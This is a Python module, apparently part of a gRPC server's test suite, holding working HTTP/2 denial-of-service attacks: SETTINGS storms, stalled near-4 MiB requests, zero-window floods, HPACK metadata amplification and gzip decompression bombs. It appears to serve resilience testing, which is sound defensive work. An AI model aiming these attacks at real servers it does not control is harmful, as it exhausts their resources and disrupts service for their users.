"""Attacks of a client that speaks HTTP/2 frame by frame. Each takes an address and does one cheap thing that was once expensive.

An attack returns what it learned: the statuses of its calls, by stream. It does not mind that the server ends its connection.
"""

from __future__ import annotations

import contextlib
import gzip
import struct
import time
from collections.abc import Iterator
from typing import Final

from tests.support.raw_http2 import (
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    SETTINGS,
    RawGrpc,
    raw_frame,
)

MIB: Final = 1 << 20
RESOURCE_EXHAUSTED: Final = "8"


@contextlib.contextmanager
def hostile(address: str, window: int = 65_535) -> Iterator[RawGrpc]:
    """A connection whose end by the server is expected."""
    client = RawGrpc(address, window)
    try:
        with contextlib.suppress(ConnectionError):
            yield client
    finally:
        client.close()


def statuses(client: RawGrpc) -> list[str]:
    return [found["grpc-status"] for found in client.headers.values() if "grpc-status" in found]


def drain(client: RawGrpc, seconds: float) -> None:
    """Read until nothing has come for a moment."""
    end = time.monotonic() + seconds
    with contextlib.suppress(ConnectionError, OSError):
        while time.monotonic() < end and client.pump(0.3):
            pass


def settings_storm(address: str, calls: int = 10_000, frames: int = 60) -> None:
    """Thousands of open calls, and SETTINGS frames of thousands of window values each."""
    values = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, 1000 + number % 2) for number in range(2730))
    with hostile(address) as client:
        for _ in range(calls):
            client.open("/grpc.health.v1.Health/Watch")
        client.socket.sendall(raw_frame(SETTINGS, 0, 0, values) * frames + raw_frame(PING, 0, 0, bytes(8)))
        drain(client, 10)


def unfinished_requests(address: str, calls: int = 200) -> list[str]:
    """Unary requests of nearly 4 MiB whose last byte never comes."""
    message = bytes(4 * MIB - 10)
    framed = b"\0" + struct.pack(">I", len(message)) + message
    with hostile(address) as client:
        for _ in range(calls):
            stream = client.open("/proto.API/CreateStream")
            sent = 0
            while sent < len(framed) and stream not in client.ended:
                room = client.room(stream)
                if room <= 0:
                    client.pump_until(lambda: client.room(stream) > 0 or stream in client.ended)  # noqa: B023
                    continue
                client.send_data(stream, framed[sent : sent + min(room, 256 << 10)])
                sent += min(room, 256 << 10)
        client.pump(0.2)
        return statuses(client)
    return []


def reflection_without_reading(address: str, requests: int = 20_000, calls: int = 8) -> list[str]:
    """Requests for the largest description, and no window for the answers."""
    symbol = b"proto.API"
    question = b"\x22" + bytes([len(symbol)]) + symbol
    framed = b"\0" + struct.pack(">I", len(question)) + question
    with hostile(address, window=0) as client:
        for _ in range(calls):
            stream = client.open("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
            client.send_data(stream, framed * (requests // calls))
        drain(client, 10)
        return statuses(client)
    return []


def answers_without_window(
    address: str, path: str, request: bytes, calls: int = 6000, seconds: float = 60
) -> list[str]:
    """Many calls with large answers, none of which the client reads; until the first is refused."""
    with hostile(address, window=0) as client:
        for _ in range(calls):
            client.call(path, request)
        end = time.monotonic() + seconds
        while not statuses(client) and time.monotonic() < end:
            client.pump(0.1)
        drain(client, 1)
        return statuses(client)
    return []


def binary_metadata(address: str, calls: int = 20_000) -> list[str]:
    """Header blocks of a few bytes that refer to values of commas: thousands of metadata values each."""
    with hostile(address) as client:
        head = [(":method", "POST"), (":scheme", "http"), (":path", "/proto.API/FetchMetadata"), (":authority", "x")]
        head += [("content-type", "application/grpc"), ("te", "trailers")]
        first = client.encode([*head, ("a-bin", "," * 3800)])
        client.socket.sendall(raw_frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
        # `a-bin` is the newest entry of the table, number 62. A literal that is not indexed makes each block another one.
        plain = client.encode(head)
        out = []
        for number in range(calls):
            distinct = b"\x00\x01x" + bytes([6]) + f"{number:06d}".encode()
            out.append(raw_frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * number, plain + b"\xbe" * 4 + distinct))
        for first_of in range(0, len(out), 500):
            client.socket.sendall(b"".join(out[first_of : first_of + 500]))
            client.pump(0)
        drain(client, 30)
        return statuses(client)
    return []


def compressed_requests(address: str, path: str, calls: int = 200) -> list[str]:
    """Requests of 4 KB that are 4 MiB when they are decompressed."""
    bomb = gzip.compress(bytes(4 * MIB - 100))
    framed = b"\1" + struct.pack(">I", len(bomb)) + bomb
    with hostile(address) as client:
        for _ in range(calls):
            stream = client.open(path, grpc_encoding="gzip")
            while client.room(stream) < len(framed):
                client.pump(1.0)
            client.send_data(stream, framed)
        drain(client, 30)
        return statuses(client)
    return []
